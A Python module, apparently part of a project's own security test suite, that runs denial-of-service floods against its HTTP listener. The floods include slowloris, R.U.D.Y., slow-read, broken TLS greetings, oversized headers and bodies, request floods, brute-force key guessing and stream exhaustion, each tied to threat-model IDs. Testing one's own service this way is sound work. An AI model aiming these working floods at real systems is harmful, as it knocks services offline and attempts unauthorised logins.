"""Floods at the HTTP listener, where the dashboard, the metrics and the health are."""

from __future__ import annotations

import asyncio
import contextlib
import json
import secrets
import socket
import ssl
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence

from attack.browser import LIVE, LOGIN, Browser, Connection, connected, request, trusting
from attack.target import HONEST, VIEWER, Target
from attack.wire import deadline

MIB = 2**20
_DRIP = 0.5


async def silent(target: Target, seconds: float) -> Counter[str]:
    """1,500 connections from two processes that never begin TLS, and again as soon as they are closed (H3 on HTTP)."""
    return await _many(target, seconds, 750, _nothing, begins_tls=False)


async def greetings(target: Target, seconds: float) -> Counter[str]:
    """TLS greetings that break off: within the hello, after it, within the answer, and what is none (H3 on HTTP)."""
    hello = _hello(target)
    parts = (
        hello[:1],
        hello[:5],
        hello[: len(hello) // 2],
        hello,
        secrets.token_bytes(200),
        b"\x16\x03\x01\x3f\xff" * 64,
    )

    async def greet(connection: Connection, number: int) -> None:
        for turn in range(number, number + len(parts)):
            connection.writer.write(parts[turn % len(parts)])
            if turn % 2:
                await connection.reader.read(1)
                return
            await asyncio.sleep(0)

    return await _many(target, seconds, 400, greet, begins_tls=False, is_numbered=True)


async def addresses(target: Target, seconds: float) -> Counter[str]:
    """600 requests that never end, from 200 addresses of the loopback network, three from each (H3 on HTTP)."""
    places = [f"127.0.{1 + number // 100}.{1 + number % 100}" for number in range(200)]
    return await _many(
        target, seconds, 600, lambda each: _drip(each, b"GET / HTTP/1.1\r\nx-slow: ", b"x"), places=places
    )


async def slow_headers(target: Target, seconds: float) -> Counter[str]:
    """600 requests whose headers come byte by byte, and again as soon as they are cut off (slowloris)."""
    return await _many(target, seconds, 600, lambda each: _drip(each, b"GET / HTTP/1.1\r\nx-slow: ", b"x"))


async def slow_bodies(target: Target, seconds: float) -> Counter[str]:
    """600 logins whose bodies come byte by byte, and again as soon as they are cut off (R.U.D.Y.)."""
    head = request(target, "POST", LOGIN, **{"content-length": "60000"})
    return await _many(target, seconds, 600, lambda each: _drip(each, head, b" "))


async def headers(target: Target, seconds: float) -> Counter[str]:
    """Requests with 6,000 headers, 31 KB each, on 32 connections without a break (M11 on HTTP)."""
    many = b"GET /health/ready HTTP/1.1\r\nhost: x\r\n" + b"a:b\r\n" * 6000 + b"\r\n"
    return await _many(target, seconds, 32, lambda each: _again(each, many))


async def bodies(target: Target, seconds: float) -> Counter[str]:
    """Logins with bodies of 64 MiB on 32 connections, without a key (H1 on HTTP)."""
    head = request(target, "POST", LOGIN, **{"content-length": str(64 * MIB)})

    async def send(connection: Connection) -> None:
        connection.writer.write(head)
        for _ in range(64):
            connection.writer.write(bytes(MIB))
            await connection.writer.drain()
        await connection.reader.read()

    return await _many(target, seconds, 32, send)


async def requests(target: Target, seconds: float) -> Counter[str]:
    """Pages, metrics and what is not there, on 64 connections as fast as they are answered (without a key)."""
    asked = [request(target, "GET", path) for path in ("/", "/metrics", "/health/ready", "/nothing", "/api/v1/boot")]

    async def ask(connection: Connection) -> None:
        while True:
            for each in asked:
                await connection.ask(each)

    return await _many(target, seconds, 64, ask)


async def guessing(target: Target, seconds: float) -> Counter[str]:
    """Logins with made-up keys, half of them with the id of the honest one, on 32 connections (M10 and H4 on HTTP)."""

    async def guess(connection: Connection) -> None:
        while True:
            for key_id in (HONEST, secrets.token_hex(6)):
                key = f"mxgw_{key_id}_{secrets.token_urlsafe(32)[:43]}"
                await connection.ask(request(target, "POST", LOGIN, json.dumps({"key": key}).encode()))

    return await _many(target, seconds, 32, guess)


async def streams(target: Target, seconds: float) -> Counter[str]:
    """Live figures of one key with 20 logins, 400 at once and again as soon as they are refused (M12 on HTTP)."""
    browsers = [Browser(target) for _ in range(20)]
    for each in browsers:
        await each.sign_in(VIEWER)

    async def follow(connection: Connection, number: int) -> None:
        connection.writer.write(browsers[number % len(browsers)].get(LIVE))
        if (await connection.head()).status == 200:
            while await connection.reader.read(MIB):
                pass

    return await _many(target, seconds, 400, follow, is_numbered=True)


async def slow_readers(target: Target, seconds: float) -> Counter[str]:
    """Live figures, metrics and pages that are asked for and never read, on 400 connections (slow read)."""
    browser = Browser(target)
    await browser.sign_in(VIEWER)
    asked = [browser.get(LIVE), request(target, "GET", "/metrics") * 200, request(target, "GET", "/") * 200]

    async def never_read(connection: Connection, number: int) -> None:
        raw = connection.writer.get_extra_info("socket")
        with contextlib.suppress(OSError):
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.writer.write(asked[number % len(asked)])
        connection.writer.transport.pause_reading()  # type: ignore[attr-defined]
        while not connection.writer.transport.is_closing():
            await asyncio.sleep(_DRIP)

    return await _many(target, seconds, 400, never_read, is_numbered=True)


async def _many(
    target: Target,
    seconds: float,
    count: int,
    work: Callable[..., Awaitable[None]],
    *,
    begins_tls: bool = True,
    is_numbered: bool = False,
    places: Sequence[str] = ("",),
) -> Counter[str]:
    """So many connections at once, each made anew when it ends; from these addresses in turns, if there are any."""
    outcome: Counter[str] = Counter()
    context = trusting(target) if begins_tls else None

    async def one(number: int) -> None:
        while True:
            try:
                async with connected(target, context, places[number % len(places)]) as connection:
                    outcome["connected"] += 1
                    await (work(connection, number) if is_numbered else work(connection))
                outcome["over"] += 1
            except (OSError, EOFError, ValueError, IndexError):
                outcome["cut off"] += 1
            await asyncio.sleep(0.01)

    async with deadline(seconds), asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(one(number))
    return outcome


def _hello(target: Target) -> bytes:
    """How a browser begins TLS."""
    arrived, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    begun = trusting(target).wrap_bio(arrived, sent, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        begun.do_handshake()
    return sent.read()


async def _nothing(connection: Connection) -> None:
    await connection.reader.read()


async def _drip(connection: Connection, head: bytes, more: bytes) -> None:
    connection.writer.write(head)
    while not connection.reader.at_eof():
        connection.writer.write(more)
        await connection.writer.drain()
        await asyncio.sleep(_DRIP)


async def _again(connection: Connection, sent: bytes) -> None:
    while True:
        await connection.ask(sent)
